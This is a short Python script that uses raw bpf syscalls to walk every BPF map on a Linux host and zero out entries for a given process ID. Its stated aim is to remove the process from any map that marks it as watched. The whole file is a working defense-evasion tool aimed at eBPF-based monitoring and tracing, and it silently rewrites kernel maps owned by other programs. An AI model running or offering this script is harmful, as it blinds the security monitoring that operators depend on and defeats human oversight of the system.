"""Takes a process out of every BPF map that could say that it is watched: maps of hash type with keys and values of four bytes get a
zero for it, arrays of one such value get a zero. mapedit.py PID"""

import ctypes
import struct
import sys

libc = ctypes.CDLL(None, use_errno=True)
BPF = 321
UPDATE, NEXT_ID, FD_BY_ID, INFO = 2, 12, 14, 15


def bpf(command, attributes):
    buffer = ctypes.create_string_buffer(attributes.ljust(128, b"\0"), 128)
    return libc.syscall(BPF, command, buffer, 128), buffer.raw


number = 0
edited = 0
while True:
    done, raw = bpf(NEXT_ID, struct.pack("II", number, 0))
    if done < 0:
        break
    number = struct.unpack_from("I", raw, 4)[0]
    fd, _ = bpf(FD_BY_ID, struct.pack("I", number))
    if fd < 0:
        continue
    info = ctypes.create_string_buffer(128)
    bpf(INFO, struct.pack("IIQ", fd, 128, ctypes.addressof(info)))
    kind, _, key, value, entries = struct.unpack_from("IIIII", info.raw)
    if (kind, key, value) == (1, 4, 4) or ((kind, key, value) == (2, 4, 4) and entries == 1):
        name = ctypes.create_string_buffer(struct.pack("I", int(sys.argv[1]) if kind == 1 else 0))
        zero = ctypes.create_string_buffer(4)
        done, _ = bpf(UPDATE, struct.pack("IIQQQ", fd, 0, ctypes.addressof(name), ctypes.addressof(zero), 0))
        edited += done == 0
sys.exit(0 if edited else "no map to edit")
